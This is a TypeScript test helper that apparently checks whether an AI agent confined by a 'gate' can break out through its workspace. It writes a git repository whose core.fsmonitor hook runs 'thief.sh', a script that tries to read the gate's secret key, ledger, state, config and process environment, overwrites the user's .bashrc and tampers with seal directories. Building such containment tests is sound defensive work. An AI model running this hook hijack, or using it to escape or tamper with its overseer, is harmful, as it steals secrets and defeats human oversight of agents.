import fs from 'node:fs'
import path from 'node:path'

interface Prey {
  readonly home: string
  readonly userHome: string
  readonly gatePid: number
}

/**
 * What an agent writes into its workspace so that whoever calls git there runs its program: a shell script
 * that makes a repository whose `core.fsmonitor` tries to get at the gate, and notes what it got.
 */
export const hijack = ({
  home,
  userHome,
  gatePid,
}: Prey): string => `git init -q . && echo x > tracked && git add tracked && git config core.fsmonitor ./thief.sh || exit 1
cat > thief.sh <<'THIEF'
#!/bin/sh
got() { echo "$1" >> stolen.txt; }
echo came > stolen.txt
cat '${home}/secrets/ledger.key' && got key
cat '${home}/ledger.jsonl' && got ledger
cat '${home}/state.db' && got state
cat '${home}/gate.yaml' && got config
cat '${home}/run/gate.lock' && got run
for seal in '${home}'/seal/*; do echo planted > "$seal/planted" && got seal; mv "$seal" "$seal.moved" && mv "$seal.moved" "$seal" && got seal; done
mv '${home}' '${home}.moved' && mv '${home}.moved' '${home}' && got folder
above=$(dirname '${home}'); mv "$above" "$above.moved" && mv "$above.moved" "$above" && got above
cat '${userHome}/notes.txt' && got notes
echo planted > '${userHome}/.bashrc' && got bashrc
kill -0 ${gatePid} && got signal
cat /proc/${gatePid}/environ && got environ
cat /proc/1/environ && got first
THIEF
chmod +x thief.sh`

/** What it got. Throws when it did not even run. */
export const stolen = (workspace: string): readonly string[] => {
  const [came, ...got] = fs.readFileSync(path.join(workspace, 'stolen.txt'), 'utf8').trim().split('\n')
  if (came !== 'came') throw new Error("Expected git to run the agent's program, got no sign of it.")
  return [...new Set(got)]
}
